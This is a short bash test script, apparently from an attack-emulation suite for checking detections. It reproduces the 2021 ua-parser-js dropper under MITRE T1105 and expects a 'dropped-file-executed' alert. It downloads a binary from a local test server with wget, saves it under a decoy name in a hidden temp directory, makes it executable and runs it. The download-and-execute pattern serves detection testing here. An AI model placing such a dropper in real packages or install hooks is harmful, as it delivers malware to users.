#!/bin/bash
# technique: T1105 Ingress Tool Transfer
# reproduces: ua-parser-js (2021): the hijacked package's preinstall.sh fell back to `wget URL -O jsextension`, then `chmod +x` and ran it (an XMRig build)
# expect: dropped-file-executed ^node-gyp-cache$
# exec-borne: yes
#
# wget -O into a temp directory, chmod 755, run in the background and
# wait, as droppers do.
set -u

command -v wget >/dev/null 2>&1 || { echo "wget not installed" >&2; exit 77; }

stage_dir="${BW_ATTACK_TMP:?}/.node-gyp"
dest="$stage_dir/node-gyp-cache"
mkdir -p "$stage_dir"
trap 'rm -rf "$stage_dir"' EXIT

if wget -q -O "$dest" "http://127.0.0.1:${BW_ATTACK_PORT:?}/agent"; then
	chmod 755 "$dest"
	"$dest" >/dev/null 2>&1 &
	wait $!
else
	echo "download failed" >&2
	exit 1
fi
